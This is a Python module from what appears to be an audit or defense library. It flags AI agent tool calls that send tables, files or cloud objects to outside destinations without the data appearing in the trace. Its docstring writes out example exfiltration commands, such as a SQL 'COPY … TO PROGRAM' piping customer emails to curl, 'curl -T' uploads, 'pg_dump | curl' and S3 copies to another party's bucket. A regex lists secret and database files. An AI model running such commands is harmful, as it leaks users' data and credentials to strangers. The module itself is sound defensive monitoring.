"""Transfers *by reference*: a call that names stored data and a place to put it, so the
data moves without its values ever appearing in the trace — what no taint tracker sees.

A taint tracker finds a value a tool showed inside a later call. ``COPY (SELECT email
FROM customers) TO PROGRAM 'curl -T - https://x'`` carries no value: the database reads
the table and ships it. So does ``curl -T users.csv https://x`` (the file never passes
through the agent), ``aws s3 cp s3://ours/x s3://theirs/`` and ``pg_dump | curl``. This
module reads such calls and says *what* they send (a table, a query, a path, an object)
and *where* (`Transfer`): `sinks` makes the place a destination of the call, and `taint`
judges it with the same authorisation as any other destination (the user's own place, a
place a tool showed the agent working in, a ``trusted`` one: fine), reporting one to a
stranger as a leak ``by reference``.

What counts, read by the statement or the command, not the tool's name:

- SQL (any tool's argument): ``COPY rel|(query) TO PROGRAM 'cmd'`` (the command's upload
  targets), ``COPY … TO``/``COPY INTO``/``UNLOAD … TO``/``EXPORT DATA OPTIONS(uri=…)``/
  ``INSERT OVERWRITE DIRECTORY``/``CREATE TABLE … LOCATION … AS SELECT`` to a bucket
  (the statements `code_places.in_sql` reads), ``COPY INTO @stage`` where the same text
  creates that stage on a bucket, ClickHouse ``INSERT INTO FUNCTION url|s3('…')``; only
  when the statement reads a relation (``FROM t``, ``COPY t TO``): ``COPY (SELECT 'a
  literal') TO …`` carries its values and is the taint's;
- a command line (a shell or code tool's text): `shell_transfers`;
- Python: ``requests|httpx….post|put|patch(url, files=…|data=open(…))``, boto3
  ``upload_file[obj](src, 'bucket', …)`` and ``put_object(…, Body=open(…))``, pandas
  ``to_csv|to_parquet|to_json('s3://…')``.

Each reader starts behind a cheap test of its own (a statement's keyword, a command's
name with an upload option, a call's name), so code that moves nothing costs a few
searches: most code a coding agent runs reaches no reader.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from typing import Literal, Protocol, TypeVar

from backdoorlab.defenses.audit import patterns, places
from backdoorlab.defenses.audit.code_places import in_sql, sql_storage
from backdoorlab.defenses.audit.places import place
from backdoorlab.defenses.audit.shell_transfers import Kind, Transfer, in_shell, to_url

__all__ = ["Transfer", "by_destination", "may_move", "shown_uploads", "strength", "transfers"]

MAX_TRANSFERS = 16
MAX_TEXT = 65536


def may_move(raw: str) -> bool:
    """Whether a call's raw arguments that `sinks`' other cheap tests let pass (no URL,
    host, ``@`` or place word) may still move data by reference (``s3.upload_file('f',
    'b', 'k')``, ``scp f 10.0.0.9:``): plain substring tests, as most calls of a trace
    take this path."""
    return "upload_file" in raw or "put_object" in raw or "scp " in raw or "rsync " in raw


def transfers(text: str) -> list[Transfer]:
    """Every transfer by reference in one argument's text (SQL, a command line, code)."""
    text = text[:MAX_TEXT]
    found = in_sql_text(text) + in_shell(text) + in_python(text)  # each behind its own test
    return found[:MAX_TRANSFERS]


# --- SQL ------------------------------------------------------------------------------

_SQL_SPLIT = re.compile(r"""'(?:[^']|'')*'|"[^"]*"|(;)""")
_COPY_REL = re.compile(r"\bCOPY\s+(\([\s\S]{1,4000}?\)|[\w.\"`]+)\s+TO\b", re.IGNORECASE)
_UNLOAD = re.compile(r"\bUNLOAD\s*\(\s*'((?:[^']|'')*)'\s*\)", re.IGNORECASE)
_FROM = re.compile(r"\bFROM\s+([\w.\"`]+)", re.IGNORECASE)
_PROGRAM = re.compile(r"\bTO\s+PROGRAM\s+'((?:[^']|'')*)'", re.IGNORECASE)
_FUNCTION = re.compile(r"\bINTO\s+FUNCTION\s+\w+\s*\(\s*'([^']{1,400})'", re.IGNORECASE)
_STAGE_USE = re.compile(r"\bCOPY\s+INTO\s+@([\w.]+)", re.IGNORECASE)
_STAGE_MADE = r"\bCREATE\s+(?:OR\s+REPLACE\s+)?(?:\w+\s+)?STAGE\s+{}\b[^;]*?\bURL\s*=\s*'([^']+)'"


_SQL_MOVES = re.compile(
    r"\b(?:COPY|UNLOAD|EXPORT\s+DATA|INTO\s+FUNCTION|DIRECTORY|LOCATION)\b", re.IGNORECASE
)
"""A statement that may move a relation somewhere (`in_sql_text`'s cheap test)."""
_SQL_WORDS = ("copy", "unload", "export", "function", "directory", "location")


def _statements(text: str) -> list[str]:
    """``text`` cut at each ``;`` outside a string literal."""
    out, start = [], 0
    for m in _SQL_SPLIT.finditer(text):
        if m.group(1):
            out.append(text[start : m.start()])
            start = m.end()
    out.append(text[start:])
    return [s for s in out if s.strip()]


def _relation(statement: str) -> str:
    """What a statement sends: the relation or query it reads; ``""`` when it reads none
    (``COPY (SELECT 'a literal') TO …`` carries its values in the trace)."""
    copy = _COPY_REL.search(statement)
    if copy and not copy.group(1).startswith("("):
        return copy.group(1)
    unload = _UNLOAD.search(statement)
    query = unload.group(1).replace("''", "'") if unload else statement
    rel = _FROM.search(query)
    if rel is None:
        return ""
    if copy:
        return copy.group(1)[:200]
    if unload:
        return f"({query[:200]})"
    return rel.group(1)


_VERB = re.compile(r"\s*(\w+)(?:\s+(INTO|DATA|OVERWRITE)\b)?", re.IGNORECASE)


def _verb(statement: str) -> str:
    """How a statement moves data, as reports say it (``COPY … TO``, ``EXPORT DATA``)."""
    m = _VERB.match(statement)
    if m is None:
        return "SQL"
    verb = " ".join(w.upper() for w in m.groups() if w)
    return f"{verb} … TO" if verb in ("COPY", "UNLOAD") else verb


def in_sql_text(text: str) -> list[Transfer]:
    """The SQL transfers of a text (module docstring)."""
    low = text.lower()  # substring tests first: the expression is slow on long code
    if not any(word in low for word in _SQL_WORDS) or not _SQL_MOVES.search(text):
        return []
    found: list[Transfer] = []
    for statement in _statements(text):
        what = _relation(statement)
        if not what:
            continue
        head = _verb(statement)
        program = _PROGRAM.search(statement)
        if program:
            cmd = program.group(1).replace("''", "'")
            found += in_shell(cmd, stdin=what, how=f"{head} PROGRAM")
            continue
        for p in in_sql(statement):
            found.append(Transfer(what, p.value, p.canonical, "bucket", head))
        for m in _FUNCTION.finditer(statement):
            found += to_url(what, m.group(1), head)
        for m in _STAGE_USE.finditer(statement):
            made = re.search(_STAGE_MADE.format(re.escape(m.group(1))), text, re.IGNORECASE)
            storage = sql_storage(made.group(1)) if made else None
            if storage is not None:
                found.append(Transfer(what, storage.value, storage.canonical, "bucket", head))
    return found


# --- Python ---------------------------------------------------------------------------

_HTTP_CALL = re.compile(r"\.(?:post|put|patch)\(", re.IGNORECASE)
_OPENED = re.compile(r"""\bopen\(\s*[rf]?['"]([^'"]{1,200})['"]""")
_FILES = re.compile(r"\bfiles\s*=|\bdata\s*=\s*open\(|\bcontent\s*=\s*open\(")
_UPLOAD = re.compile(
    r"""\.upload_file(?:obj)?\(\s*([^,()]{1,200}(?:\([^()]*\))?)\s*,\s*['"]([\w.-]+)['"]"""
)
_PUT_BODY = re.compile(
    r"""\.put_object\((?=[^)]*Body\s*=\s*open\()[^)]*Bucket\s*=\s*['"]([\w.-]+)"""
)
_FRAME = re.compile(r"""(\w+)\.to_(?:csv|parquet|json)\(\s*[rf]?['"]((?:s3|gs)://[^'"]+)['"]""")
_ASSIGNED = r"""\b{}\s*=\s*[rf]?['"]([^'"]+)['"]"""


def in_python(code: str) -> list[Transfer]:
    """The Python transfers of a text (module docstring)."""
    found: list[Transfer] = []
    if not ("open(" in code or "upload_file" in code or "put_object" in code or ".to_" in code):
        return found
    if "open(" in code and _HTTP_CALL.search(code):
        for m in _HTTP_CALL.finditer(code):
            args = _call_args(code, m.end())
            if not _FILES.search(args):
                continue
            opened = _OPENED.search(args) or _OPENED.search(code)
            what = opened.group(1) if opened else args[:120]
            first = re.sub(r"^url\s*=\s*", "", args.split(",", 1)[0].strip())
            url = first.strip("'\"rf")
            if "://" not in first and re.fullmatch(r"\w+", first):
                assigned = re.search(_ASSIGNED.format(first), code)
                url = assigned.group(1) if assigned else ""
            if "://" in url:
                found += to_url(what, url, "HTTP upload in code")
    service = "s3" if "boto" in code or "s3" in code else ""
    for m in _UPLOAD.finditer(code):
        canon = place("bucket", m.group(2), service=service)
        if canon:
            what = _literal(code, m.group(1).strip())
            found.append(Transfer(what, m.group(2), canon, "bucket", "upload_file"))
    for m in _PUT_BODY.finditer(code):
        canon = place("bucket", m.group(1), service=service)
        opened = _OPENED.search(code, m.start())
        if canon and opened:
            found.append(Transfer(opened.group(1), m.group(1), canon, "bucket", "put_object"))
    for m in _FRAME.finditer(code):
        found += to_url(m.group(1), m.group(2), "DataFrame export")
    return found


def _literal(code: str, expr: str) -> str:
    """A string argument's text: a literal's, or a name's assigned literal, or as is."""
    if expr[:1] in ("'", '"'):
        return expr.strip("'\"")
    assigned = re.search(_ASSIGNED.format(re.escape(expr)), code) if expr.isidentifier() else None
    return assigned.group(1) if assigned else expr


def _call_args(code: str, start: int) -> str:
    """The text of a call's arguments, from just after its ``(`` to the matching ``)``."""
    depth = 1
    for i in range(start, min(len(code), start + 4096)):
        c = code[i]
        if c in "([{":
            depth += 1
        elif c in ")]}":
            depth -= 1
            if depth == 0:
                return code[start:i]
    return code[start : start + 4096]


# --- how much it says, and upload addresses tools gave ----------------------------------

_SECRET_FILE = re.compile(
    r"\.env\b|id_[rd]sa|\.pem\b|\.key\b|credentials|\.npmrc|\.pgpass|passwd|shadow|kubeconfig"
    r"|\.sql\b|\.dump\b|\.bak\b|\.db\b|\.sqlite",
    re.IGNORECASE,
)
_DUMPERS = re.compile(r"^(?:pg_dump|pg_dumpall|mysqldump|mongodump|sqlite3|psql|mysql)\b")


def strength(transfer: Transfer) -> Literal["strong", "medium"]:
    """How bad a stranger receiving ``transfer`` is, unseen: ``strong`` for a table or a
    query's rows, a database dump, a secrets or database file; ``medium`` for any other
    file or object (whose content the trace never showed)."""
    what = transfer.what
    if transfer.how.split(" ", 1)[0].upper() in _SQL_HEADS or _DUMPERS.match(what):
        return "strong"
    return "strong" if _SECRET_FILE.search(what) else "medium"


_SQL_HEADS = frozenset(("COPY", "UNLOAD", "EXPORT", "INSERT", "CREATE"))
_UPLOAD_KEYS = frozenset(("upload", "presigned", "signed", "put", "sas", "write", "target"))
_URL_KEYS = frozenset(("url", "uri", "href", "link", "endpoint"))


def shown_uploads(text: str) -> set[str]:
    """URLs (without their query) a structured tool result gave as where to upload — a
    field named for it (``upload_url``, ``presignedUrl``, ``signed_uri``): an API's answer
    for the user's own job, as `places.places_shown` reads a job's bucket; never a URL in
    prose, where an injected instruction writes its own."""
    head = text.lstrip()[:1]
    if head not in ("{", "[") or not re.search(r"upload|signed|put|sas|write|target", text, re.I):
        return set()
    try:
        data = json.loads(text)
    except ValueError:
        return set()
    found: set[str] = set()
    for key, value in places.string_fields(data, longest=None):
        if "://" in value:
            words = set(patterns.name_tokens(key))
            if words & _UPLOAD_KEYS and words & _URL_KEYS:
                found.add(value.split("?", 1)[0])
    return found


class _Named(Protocol):
    @property
    def canonical(self) -> str: ...


D = TypeVar("D", bound=_Named)


def by_destination(
    moved: Sequence[tuple[str, Transfer]],
    dests: list[D],
    make: Callable[[str, str, str, Kind], D],
) -> dict[str, list[Transfer]]:
    """The transfers of a call (with the argument each was read in) by the destination
    each goes to: one of ``dests`` (a bucket by its own name, whatever service a reading
    says), or one ``make(argument, target, canonical, kind)`` builds and ``dests`` gains
    (``scp``'s host, ``url('…')``)."""
    out: dict[str, list[Transfer]] = {}
    for path, transfer in moved:
        loose = places.loose(transfer.canonical)
        dest = next((d for d in dests if places.loose(d.canonical) == loose), None)
        if dest is None:
            dest = make(path, transfer.target, transfer.canonical, transfer.kind)
            dests.append(dest)
        out.setdefault(dest.canonical, []).append(transfer)
    return out
